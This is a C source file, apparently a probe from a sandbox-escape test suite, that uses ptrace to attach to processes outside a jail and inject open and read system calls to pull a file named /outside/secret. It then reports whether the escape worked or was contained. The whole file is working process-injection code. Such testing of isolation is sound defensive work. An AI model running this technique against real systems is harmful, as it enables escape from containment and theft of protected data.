/*
 * ptrace-outside: attaches to a process outside the jail and makes it open and
 * read /outside/secret for us, one injected system call at a time (x86-64).
 */
#include "probe.h"
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>

static long inject(pid_t pid, const struct user_regs_struct *saved, unsigned long long at, long nr, long a1, long a2, long a3) {
  struct user_regs_struct r = *saved;
  r.rip = at;
  r.rax = (unsigned long long)nr;
  r.orig_rax = (unsigned long long)-1; /* not inside a syscall: no restart logic on resume */
  r.rdi = (unsigned long long)a1;
  r.rsi = (unsigned long long)a2;
  r.rdx = (unsigned long long)a3;
  if (ptrace(PTRACE_SETREGS, pid, 0, &r) != 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0) return -1;
  int st;
  if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) return -1;
  return (long)r.rax;
}

static int steal(pid_t pid) {
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) return -errno;
  int st;
  if (waitpid(pid, &st, __WALL) != pid) return -ECHILD;
  struct user_regs_struct saved;
  ptrace(PTRACE_GETREGS, pid, 0, &saved);
  unsigned long long at = saved.rip;
  long text = ptrace(PTRACE_PEEKTEXT, pid, at, 0);
  ptrace(PTRACE_POKETEXT, pid, at, (text & ~0xffffL) | 0x050f); /* "syscall" */
  unsigned long long scratch = ((saved.rsp - 2048) & ~15ULL);
  const char path[16] = "/outside/secret";
  for (int i = 0; i < 2; i++) {
    long w;
    memcpy(&w, path + 8 * i, 8);
    ptrace(PTRACE_POKEDATA, pid, scratch + 8 * i, w);
  }
  char secret[136] = {0};
  long fd = inject(pid, &saved, at, SYS_open, (long)scratch, O_RDONLY, 0);
  if (fd >= 0) {
    long n = inject(pid, &saved, at, SYS_read, fd, (long)scratch + 32, 128);
    for (long i = 0; i < n && i < 128; i += 8) {
      long w = ptrace(PTRACE_PEEKDATA, pid, scratch + 32 + i, 0);
      memcpy(secret + i, &w, 8);
    }
    if (n > 0) secret[n < 128 ? n : 128] = 0;
    inject(pid, &saved, at, SYS_close, fd, 0, 0);
  }
  ptrace(PTRACE_POKETEXT, pid, at, text);
  ptrace(PTRACE_SETREGS, pid, 0, &saved);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  if (!secret[0]) return -(fd < 0 ? (int)-fd : ENODATA);
  secret[strcspn(secret, "\n")] = 0;
  probe_say("escape: ptrace(PTRACE_ATTACH, %d), injected open+read of /outside/secret -> %s", (int)pid, secret);
  return 1;
}

int main(int argc, char **argv) {
  probe_start(argc, argv, "ptrace-outside");
  int last = ESRCH, tried = 0;
  /* No /proc needed: kill(pid, 0) tells which process ids exist. PID 1 (the init of the probe's PID namespace) is
   * never a target. Ids are handed out in order, so past a long run of free ones there is nobody left to find. */
  for (pid_t pid = 2, free_run = 0; pid < 32768 && free_run < 1024; pid++) {
    if (pid == getpid() || (kill(pid, 0) != 0 && errno != EPERM)) {
      free_run++;
      continue;
    }
    free_run = 0;
    int r = steal(pid);
    if (r == 1) return 0;
    tried++;
    last = -r;
  }
  char call[64];
  snprintf(call, sizeof call, "ptrace(PTRACE_ATTACH) on %d processes", tried);
  probe_blocked(call, last);
  probe_say("contained: no outside process could be taken over");
  return 1;
}
